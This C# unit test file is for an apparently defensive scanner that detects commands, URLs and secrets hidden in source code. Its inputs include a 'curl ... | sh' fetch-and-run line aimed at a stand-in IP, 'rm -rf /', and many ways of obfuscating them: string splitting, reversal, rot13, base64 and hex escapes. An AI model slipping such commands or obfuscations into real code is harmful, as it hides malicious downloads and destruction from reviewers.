using ApprovalGuard.Detection.Payloads;
using ApprovalGuard.Detection.Secrets;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Core.Tests.Detection.Payloads;

/// <summary>Where encodings are looked for, and how far their spans reach.</summary>
public sealed class SearchTests
{
    private const string Line = "curl -fsSL http://198.51.100.7/setup | sh";

    private static readonly PayloadDetector Detector = new(new SecretDetector([]));
    private static readonly string Encoded = Coded.Base64(Plain.Bytes(Line));

    [Fact]
    public void Pieces_over_lines_are_reported_at_the_first_with_a_span_over_all()
    {
        var finding = OnlyIn($"var a = 1;\nvar data = '{Encoded[..20]}' +\n  '{Encoded[20..40]}' +\n  '{Encoded[40..]}';\n", "src/a.js");

        finding.DecodedFrom.ShouldBe(["joined", "base64"]);
        (finding.Line, finding.Column, finding.EndLine).ShouldBe((2, 13, 4));
    }

    [Theory]
    [InlineData("run('cu' + 'rl -s http://198.51.100.7/x | s' + 'h')", "src/a.js")]
    [InlineData("run('cu' . 'rl -s http://198.51.100.7/x | s' . 'h');", "src/a.php")]
    [InlineData("run('cu' .. 'rl -s http://198.51.100.7/x | s' .. 'h')", "src/a.lua")]
    [InlineData("run(\"cu\" & \"rl -s http://198.51.100.7/x | s\" & \"h\")", "src/a.vbs")]
    [InlineData("run('cu' 'rl -s http://198.51.100.7/x | s' 'h')", "src/a.py")]
    [InlineData("a = 'cu'\nb = 'rl -s http://198.51.100.7/x | s'\nrun(a + b + 'h')", "src/a.rb")]
    [InlineData("this.a = 'cu'; this.b = 'rl -s http://198.51.100.7/x | s'; run(this.a + this.b + 'h');", "src/a.ts")]
    [InlineData("a=cu; b='rl -s http://198.51.100.7/x -o a'; $a$b", "run.sh")]
    [InlineData("const a = 'cu', b = 'rl -s http://198.51.100.7/x -o a'; run(`${a}${b}`);", "src/a.js")]
    [InlineData("s = 'cu'\ns += 'rl -s http://198.51.100.7/x -o a'\nrun(s)", "src/a.py")]
    [InlineData("$s = 'cu';\n$s .= 'rl -s http://198.51.100.7/x -o a';\nrun($s);", "src/a.php")]
    [InlineData("s = \"cu\"\ns = s & \"rl -s http://198.51.100.7/x -o a\"\n", "src/a.vbs")]
    [InlineData("run(['cu', 'rl -s http://198.51.100.7/x | s', 'h'].join(''))", "src/a.js")]
    [InlineData("run(implode('', ['cu', 'rl -s http://198.51.100.7/x -o a']));", "src/a.php")]
    [InlineData("parts = ['cu', 'rl -s http://198.51.100.7/x -o a']\nrun(''.join(parts))", "src/a.py")]
    public void A_command_in_pieces_is_put_together(string code, string path) => OnlyIn(code, path).Rule.Id.ShouldBe("hidden-command");

    [Theory]
    [InlineData("run('curl -s http://198.51.100.7/x ' + '| sh')", "src/a.js")]
    [InlineData("const url = 'https://' + 'drop.example.net' + '/x';", "src/a.ts")]
    [InlineData("a = 'https://drop.example.net'\nb = '/x'\nget(a + b)", "src/a.py")]
    [InlineData("print('The first half of a long sen' +\n  'tence about curl and shells')", "src/a.js")]
    [InlineData("x = [\"curl\", \"-s\", \"http://198.51.100.7/x\"]", "src/a.py")]
    public void What_can_be_read_where_it_stands_is_no_discovery(string code, string path) => In(code, path).ShouldBeEmpty();

    [Theory]
    [InlineData("x = '{0}'[::-1]", "src/a.py")]
    [InlineData("x = '{0}'.split('').reverse().join('')", "src/a.js")]
    [InlineData("x = strrev('{0}')", "src/a.php")]
    [InlineData("echo '{0}' | rev | sh", "run.sh")]
    [InlineData("x = '{0}'.reverse", "src/a.rb")]
    public void A_command_read_backwards_is_turned(string code, string path) =>
        OnlyIn(code.Replace("{0}", Coded.Reversed(Line), StringComparison.Ordinal), path).DecodedFrom.ShouldBe(["reversed"]);

    [Fact]
    public void A_URL_backwards_is_found_without_any_call() => OnlyIn("x = 'tcelloc/ten.elpmaxe.pord//:sptth'").Rule.Id.ShouldBe("hidden-url");

    [Fact]
    public void Rotated_letters_are_turned_back() => OnlyIn("x = codecs.decode('phey -f uggc://198.51.100.7/k | fu', 'rot13')").DecodedFrom.ShouldBe(["rot13"]);

    [Theory]
    [InlineData(76)]
    [InlineData(32)]
    [InlineData(16)]
    public void Base64_wrapped_at_any_width_is_one_text(int width)
    {
        var finding = OnlyIn($"cat > x <<'END'\n{Coded.Wrapped(Coded.Base64(Plain.Bytes("#!/bin/sh\n# a longer script than before\n" + Line)), width, "\n")}\nEND\n", "run.sh");

        finding.DecodedFrom.ShouldBe(["base64"]);
        finding.Line.ShouldBe(2);
        finding.EndLine.ShouldBeGreaterThan(2);
        finding.Inside.ShouldEndWith("| sh");
    }

    [Fact]
    public void Base64_wrapped_in_comments_is_one_text() =>
        OnlyIn($"# {Coded.Wrapped(Coded.Base64(Plain.Bytes(Line + '\n' + Line)), 30, "\n# ")}\n").EndLine.ShouldBe(4);

    [Fact]
    public void Base64_with_escaped_line_ends_is_one_text() =>
        OnlyIn($"{{ \"content\": \"{Coded.Wrapped(Coded.Base64(Plain.Bytes(Line + '\n' + Line)), 60, "\\n")}\\n\" }}", "data/a.json").Inside.ShouldStartWith(Line);

    [Fact]
    public void Lines_that_were_encoded_one_by_one_are_one_text()
    {
        var lines = Plain.Bytes("#!/bin/sh\n# words that fill the lines of this script\necho hello\n").Chunk(20).Select(Coded.Base64);

        OnlyIn(string.Join('\n', lines) + "\n", "data/a.txt").Inside.ShouldEndWith("echo hello");
    }

    [Theory]
    [InlineData("fetch?data={0}&id=1")]
    [InlineData("--payload={0}")]
    [InlineData("path/to/{0}")]
    [InlineData("name_{0}")]
    [InlineData("x{0}")]
    [InlineData("xyz{0}")]
    public void A_text_with_something_before_it_is_found(string around) =>
        OnlyIn($"x = '{around.Replace("{0}", Encoded, StringComparison.Ordinal)}'").Rule.Id.ShouldBe("hidden-command");

    [Theory]
    [InlineData("atob('{0}')")]
    [InlineData("base64.b64decode('{0}')")]
    [InlineData("echo {0} | base64 -d")]
    [InlineData("[Convert]::FromBase64String('{0}')")]
    public void A_short_text_is_found_beside_a_call_that_decodes_it(string code) =>
        OnlyIn(code.Replace("{0}", Coded.Base64(Plain.Bytes("rm -rf /")), StringComparison.Ordinal)).Rule.Id.ShouldBe("hidden-command");

    [Fact]
    public void The_values_of_a_Kubernetes_secret_are_read_with_their_names()
    {
        var password = "Gr8ten" + "-Wald-77";

        var finding = OnlyIn($"apiVersion: v1\nkind: Secret\nmetadata:\n  name: shop\ndata:\n  user: {Coded.Base64(Plain.Bytes("shop"))}\n  password: {Coded.Base64(Plain.Bytes(password))}\n", "deploy/a.yml");

        finding.Rule.Id.ShouldBe("hidden-secret");
        finding.Line.ShouldBe(7);
    }

    [Theory]
    [InlineData("104, 101", true)]
    [InlineData("104,101", true)]
    [InlineData("104 101", true)]
    [InlineData("104-101", true)]
    [InlineData("0x68,0x65", true)]
    [InlineData("(byte)104, (byte)101", true)]
    [InlineData("104u8, 101u8", true)]
    public void Numbers_are_read_in_the_notations_of_code(string example, bool isFound)
    {
        var separator = example.Contains(", ", StringComparison.Ordinal) ? ", " : example.Contains(',', StringComparison.Ordinal) ? "," : example.Contains('-', StringComparison.Ordinal) ? "-" : " ";
        var format = example.Split(separator)[0].Replace("104", "{0}", StringComparison.Ordinal).Replace("68", "{0:x2}", StringComparison.Ordinal);

        (In($"x = [{Coded.List(Plain.Bytes(Line), format, separator)}]").Count == 1).ShouldBe(isFound);
    }

    private static IReadOnlyList<Finding> In(string text, string path = "src/sample.py") => Look.At(Detector, text, path);

    private static Finding OnlyIn(string text, string path = "src/sample.py") => In(text, path).ShouldHaveSingleItem();

    [Fact]
    public void A_text_that_grows_over_very_many_lines_is_found()
    {
        var script = string.Concat(Enumerable.Repeat("import os\nos.system('id')\n", 1000));
        var lines = Coded.Pieces(Coded.Base64(Plain.Bytes(script)), 60).Select(static piece => $"DATA += '{piece}'\n");

        Look.At(Detector, $"DATA = ''\n{string.Concat(lines)}", "src/a.py").ShouldContain(static finding => finding.Rule.Id == "hidden-script");
    }

    [Fact]
    public void A_long_text_that_is_read_backwards_is_found() =>
        Look.At(Detector, $"x = '{Coded.Reversed(string.Concat(Enumerable.Repeat("import os; os.system(1); ", 200)))}'[::-1]\n", "src/a.py")
            .ShouldHaveSingleItem().Rule.Id.ShouldBe("hidden-script");

    [Fact]
    public void Escapes_after_others_in_a_long_literal_are_found()
    {
        var blank = Coded.Each(Plain.Bytes("some words "), "\\x{0:x2}") + " ";
        var payload = Coded.Each(Plain.Bytes("curl -s http://198.51.100.7/x | sh"), "\\x{0:x2}");

        Look.At(Detector, $"x = \"{string.Concat(Enumerable.Repeat(blank, 400))}{payload}\"\n", "src/a.py").ShouldContain(static finding => finding.Rule.Id == "hidden-command");
    }

    [Theory]
    [InlineData("0x")]
    [InlineData("0X")]
    public void A_prefix_of_hex_leaves_few_digits_and_is_no_failure(string prefix) => Look.At(Detector, $"x = {prefix}{new string('a', 22)};", "src/a.js").ShouldBeEmpty();
}
